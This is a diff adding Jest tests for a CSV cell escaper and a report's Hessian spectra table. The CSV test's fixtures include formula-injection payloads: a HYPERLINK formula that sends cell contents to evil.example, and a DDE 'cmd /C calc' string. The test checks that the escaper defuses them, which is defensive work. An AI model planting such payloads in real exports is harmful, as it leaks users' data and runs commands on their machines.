@@ -201,6 +201,16 @@ describe('csv cells', () => {
     const line = cells.map(csvCell).join(',');
     expect(parseCsv(`${line}\r\n`)).toEqual([cells]);
   });
+
+  it('defuses names a spreadsheet would run as formulas, and still parses them back', () => {
+    const cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB', "'=already quoted", "it's fine", '-'];
+    const line = cells.map(csvCell).join(',');
+    // As a spreadsheet reads each cell (inside its quotes, if any): none starts a formula any more.
+    const raw = cells.map(csvCell).map((c) => c.replace(/^"/, ''));
+    expect(raw.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(csvCell('=1+1')).toBe("'=1+1");
+    expect(parseCsv(`${line}\r\n`)).toEqual([cells]);
+  });
 });
 
 describe('decimation', () => {
@@ -232,5 +242,19 @@ describe('report HTML of runs without results', () => {
     expect(html).toContain('No metric series were recorded');
     expect(html).toContain('No Hessian spectra were recorded');
     expect(html).toContain('no Hessian analysis recorded');
+  });
+});
+
+describe('report spectra table', () => {
+  it('names how each spectrum was computed and warns under the table for a finite-difference one', () => {
+    const exact = fakeRun(1, base, { test: 0.8, train: 0.9, lmax: 12 });
+    const fd = fakeRun(2, base, { test: 0.8, train: 0.9, lmax: 30 });
+    fd.spectra = fd.spectra.map((s) => ({ ...s, hvp: 'finite-difference' as const, fdStep: 1e-4, hvpReason: 'double backpropagation failed: gradient function not found for LRNGrad' }));
+    const html = renderReportHtml({ title: 'Methods', createdAt: 0, runs: [exact, fd] });
+    expect(html).toContain('exact (double backprop), batch 64');
+    expect(html).toContain('finite differences (step 1e-4·‖w‖) ⚠, batch 64');
+    const warnings = html.match(/<p class="note fd-warning">[^]*?<\/p>/g) ?? [];
+    expect(warnings).toHaveLength(1);
+    expect(warnings[0]).toMatch(/#2: Finite-difference spectrum: .* approximate; .* Why finite differences: double backpropagation failed: gradient function not found for LRNGrad\./);
   });
 });
